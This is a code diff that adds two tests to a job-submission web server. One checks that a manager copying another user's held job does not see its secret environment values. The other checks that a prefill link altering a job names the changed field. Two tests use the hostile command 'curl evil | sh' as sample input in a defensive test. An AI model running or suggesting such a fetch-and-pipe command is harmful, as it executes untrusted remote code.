@@ -232,6 +232,23 @@ def test_other_peoples_jobs_are_not_filled_in(server: RunningServer, surfer: Sur
     assert surfer.get("/jobs/new?from=123456").status == 404
 
 
+def test_a_manager_does_not_get_the_values_of_variables_by_filling_in(server: RunningServer) -> None:
+    job = server.submit(command=["true"], env={"TOKEN": "s3cret"}, held=True)
+    lead = _somebody(server, "leader")
+    assert server.ask("PUT", "/projects/default/members/leader", {"role": "manager"}).status == 200
+    page = lead.get(f"/jobs/new?from={job}")
+    assert page.status == 200
+    assert value_of(page, "command") == "true"
+    assert "s3cret" not in page.text
+    assert "Its environment variables are left out" in page.text
+
+
+def test_a_link_that_changes_a_job_one_knows_says_what_it_changed(server: RunningServer, surfer: Surfer) -> None:
+    job = server.submit(command=["python", "mine.py"], gpus=1, held=True)
+    page = surfer.get(f"/jobs/new?from={job}&gpus=1&command=" + quote("curl evil | sh"))
+    assert f"Filled in as job {job} was. The link you followed changed: Command." in page.text
+
+
 def test_a_link_that_fills_in_fields_says_so(surfer: Surfer) -> None:
     page = surfer.get("/jobs/new?command=" + quote("curl evil | sh") + "&env=A%3D1")
     assert "Filled in by the link you followed" in page.text
